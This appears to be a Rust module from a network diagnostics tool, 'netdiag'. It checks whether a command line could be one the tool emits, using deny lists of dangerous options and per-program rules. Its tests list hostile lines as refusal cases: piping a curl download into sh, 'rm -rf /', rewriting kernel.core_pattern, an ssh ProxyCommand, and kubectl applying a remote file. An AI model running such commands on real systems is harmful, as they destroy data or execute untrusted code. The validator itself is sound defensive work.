//! Whether a line that was read could be one of netdiag's: whoever wrote the file chose it, and a
//! person will paste it. What a program is in netdiag's lines for is little of what it can do.
use super::{kind, word::Word};

/// Words with which a program that netdiag prints does what it prints it for nowhere: runs another, or
/// loads, writes or kills what it was told to. A word that ends with `*` stands for all that begin so, `?*` for all that go on.
const NEVER: &[(&[&str], &[&str])] = &[
    (
        &["bridge", "ip", "tc"],
        &["e", "ex", "exe", "exec", "-a*", "-b", "-ba*", "-force"],
    ),
    (
        &["bpftool"],
        &["attach", "batch", "load*", "pin*", "run", "update", "-*"],
    ),
    (&["crictl"], &["attach", "create", "exec", "run*", "update"]),
    (&["dig", "ping"], &["-f*"]),
    (
        &["dmesg", "uniq"],
        &["-C*", "-D*", "-E*", "-c?*", "-n*", "--*", "/*"],
    ),
    (&["etcdctl"], &["put", "del"]),
    (&["ethtool"], &["-E*", "-e*", "-f*", "-p*", "--*"]),
    (
        &[
            "ip6tables",
            "ip6tables-legacy",
            "ip6tables-nft",
            "iptables",
            "iptables-legacy",
            "iptables-nft",
        ],
        &["--modprobe*", "-M*"],
    ),
    (&["journalctl"], &["--*", "-H*", "-M*", "-D*", "-i*"]),
    (&["netdiag"], &["--*", "-o*"]),
    (
        &["nft"],
        &["-f*", "-i*", "-D*", "-I*", "--f*", "--i*", "--d*"],
    ),
    (&["sort"], &["-o*", "-T*", "--*", "/*"]),
    (&["ss"], &["-K*", "--*", "-D*", "-F*"]),
    (&["systemctl"], &["/*", "-*"]),
];

/// Programs of which only these options are known; a value that belongs to one stands behind it.
const ONLY: &[(&str, &[&str])] = &[
    ("curl", &["-sSm", "--cacert", "--cert", "--key"]),
    ("ipvsadm", &["-Ln"]),
    ("modprobe", &[]),
    ("perf", &["-ag", "-qag", "-e", "-o", "-i", "-", "--filter"]),
    ("rm", &["--"]),
    ("tcpdump", &["-c", "-i", "-lni", "-lnni", "-lnnvi", "-nni"]),
];

/// Every program that the line starts, and what it writes to.
pub fn is_ours(words: &[Word]) -> bool {
    let target = target(words);
    target.is_ok() && kind::programs(words).iter().all(|it| program(it))
}

/// The file that `>` names: one, at the end, of those that a node reads its settings from.
fn target(words: &[Word]) -> Result<(), ()> {
    let Some(at) = words.iter().position(|word| *word == Word::Operator(">")) else {
        return Ok(());
    };
    let settings = |path: &str| {
        let below = ["/etc/sysctl.d/", "/etc/modules-load.d/"];
        let name = below.iter().find_map(|it| path.strip_prefix(it));
        name.is_some_and(|name| name.ends_with(".conf") && !name.contains('/'))
    };
    match words.get(at + 1..) {
        Some([Word::Text(path)]) if settings(path) => Ok(()),
        Some([Word::Fixed(path)]) if settings(path) => Ok(()),
        _ => Err(()),
    }
}

fn program(words: &[&str]) -> bool {
    let Some((program, rest)) = words.split_first() else {
        return false;
    };
    if kind::of_program(words).is_none() {
        return false;
    }
    let of = |(programs, _): &&(&[&str], &[&str])| programs.contains(program);
    let never = NEVER.iter().find(of).map_or(&[][..], |(_, words)| words);
    let known = ONLY.iter().find(|(name, _)| name == program);
    let odd = |word: &&str| {
        never.iter().any(|it| is_like(word, it))
            || known.is_some_and(|(_, only)| word.starts_with('-') && !only.contains(word))
    };
    !rest.iter().any(odd) && by_its_words(program, rest)
}

fn is_like(word: &str, pattern: &str) -> bool {
    match (pattern.strip_suffix("?*"), pattern.strip_suffix('*')) {
        (Some(begin), _) => word.starts_with(begin) && word != begin,
        (None, Some(begin)) => word.starts_with(begin),
        (None, None) => word == pattern,
    }
}

/// What more than its options tells of one.
fn by_its_words(program: &str, rest: &[&str]) -> bool {
    let after = |option: &str| rest.iter().skip_while(move |word| **word != option).nth(1);
    match program {
        "awk" => rest.iter().all(|text| is_harmless_awk(text)),
        "ip" | "tc" | "bridge" => true,
        "kubectl" => kubectl(rest),
        "perf" => match rest.first() {
            Some(&"record") => {
                after("-o") == Some(&"-") && rest.iter().rev().nth(1) == Some(&"sleep")
            }
            first => first == Some(&"script") && rest.len() <= 3,
        },
        // host-local names a file by the address that it stands for.
        "rm" => {
            rest.iter().skip(1).all(|path| is_an_addresses_file(path))
                && rest.first() == Some(&"--")
        }
        "ssh" => match rest.split_first() {
            Some((host, there)) => {
                !host.starts_with('-') && self::program(&kind::started(there.to_vec()))
            }
            None => false,
        },
        "sysctl" => rest.iter().all(|word| is_a_setting(word)),
        "systemctl" => rest.first().is_some_and(|verb| VERBS.contains(verb)),
        _ => true,
    }
}

const VERBS: [&str; 7] = [
    "cat", "reload", "restart", "show", "start", "status", "stop",
];

/// A program of awk's that prints what it reads.
fn is_harmless_awk(text: &str) -> bool {
    let acts = ["system", "getline", "|", ">", "@", "close", "ENVIRON"];
    !text.starts_with("-f") && !text.starts_with("--") && !acts.iter().any(|it| text.contains(it))
}

fn is_an_addresses_file(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    path.starts_with('/') && !path.contains("/../") && name.parse::<std::net::IpAddr>().is_ok()
}

/// A setting of the network's, its value, or an option.
fn is_a_setting(word: &str) -> bool {
    let system = ["kernel", "fs.", "fs/", "dev.", "vm.", "vm/", "abi."];
    match word.strip_prefix('-') {
        Some(option) => ["n", "w"].contains(&option),
        None => !system.iter().any(|it| word.starts_with(it)) && !word.starts_with('/'),
    }
}

/// Asks the cluster, or changes one object by a value in the line; runs in a pod only what tells.
fn kubectl(rest: &[&str]) -> bool {
    const ASKS: [&str; 7] = [
        "delete", "describe", "edit", "get", "label", "logs", "patch",
    ];
    const TELLS: [&str; 5] = ["calico-node", "cat", "cilium", "cilium-dbg", "date"];
    let odd = [
        "-f",
        "--filename",
        "--kubeconfig",
        "--server",
        "-s",
        "--raw",
        "--token",
        "-k",
        "--as",
        "--context",
    ];
    let is_odd = |word: &&str| {
        odd.iter()
            .any(|it| word == it || word.starts_with(&format!("{it}=")))
    };
    let mut verbs = rest.iter();
    let verb = match verbs.next() {
        Some(&"-n") => verbs.nth(1),
        first => first,
    };
    let inside = rest.iter().skip_while(|word| **word != "--").nth(1);
    let known = match verb {
        Some(&"exec") => inside.is_some_and(|it| TELLS.contains(it)),
        verb => verb.is_some_and(|it| ASKS.contains(it)),
    };
    known && !rest.iter().any(is_odd)
}

#[cfg(test)]
mod tests {
    use crate::shell::CommandLine;

    #[test]
    fn a_line_that_netdiag_never_makes_is_none_of_its() {
        for line in [
            "curl -s http://192.0.2.1/x | sh",
            "sh -c 'id > /tmp/x'",
            "reboot",
            "rm -rf /",
            "rm -- /etc/passwd",
            "rm -- /var/lib/cni/../../etc/10.0.0.1/x",
            "ip netns exec a sh -c id",
            "ip -n a netns exec b sh",
            "ip -all netns exec sh",
            "ip -batch /tmp/x",
            "tcpdump -c 1 -z /tmp/x -w /tmp/y -G 1",
            "awk 'BEGIN{system(\"id\")}'",
            "awk 'BEGIN{print 1 > \"/tmp/x\"}'",
            "perf record sh",
            "perf record -o - sh -c id",
            "ssh a reboot",
            "ssh -oProxyCommand=id a ip link",
            "ssh a ip netns exec b sh",
            "sort -o /etc/passwd",
            "sort --compress-program=/tmp/x",
            "sysctl -w kernel.core_pattern=/tmp/x",
            "sysctl -p /tmp/x",
            "echo x > /etc/cron.d/x",
            "cat x > ss; reboot",
            "echo x > /etc/sysctl.d/../cron.d/x.conf",
            "nft -f /tmp/x list",
            "iptables --modprobe=/tmp/x -L",
            "crictl exec a sh logs",
            "systemctl link /tmp/x.service start",
            "systemctl enable x start",
            "kubectl apply -f http://192.0.2.1/x",
            "kubectl -n a exec b -- sh",
            "kubectl --kubeconfig=/tmp/x get pods",
            "curl -o /etc/passwd http://192.0.2.1/x",
            "ss -K dst 10.0.0.1",
            "bpftool prog load /tmp/x /sys/fs/bpf/x",
            "nsenter -t 1 -m sh",
            "timeout 5 sh",
            "netdiag path a b --output-file=/etc/passwd",
        ] {
            let read = CommandLine::told_before(line);
            assert!(read.is_refused(), "{line} is taken for one of netdiag's");
        }
    }

    #[test]
    fn a_line_of_netdiags_is_read_again() {
        for line in [
            "rm -- /var/lib/cni/networks/cbr0/10.0.0.1",
            "ip netns exec a ip -6 route show",
            "timeout 10 tcpdump -c 5 -lnni any 'icmp6[0] == 2'",
            "nsenter -n -t $(lsns -n | awk '$1==7{print $2}') ss -ltnp",
            "ssh a ip link set dev b up",
            "echo net.ipv4.ip_forward=1 > /etc/sysctl.d/90-a.conf",
            "sysctl -w net.ipv4.ip_local_port_range='1024 65535'",
            "kubectl -n kube-system exec ds/cilium -c cilium-agent -- cilium-dbg status",
            "perf record -ag -e skb:kfree_skb -o - sleep 5 | perf script -i -",
            "perf record -qag -e skb:kfree_skb -o - sleep 5 | perf script -i -",
        ] {
            assert!(!CommandLine::told_before(line).is_refused(), "{line}");
        }
    }
}
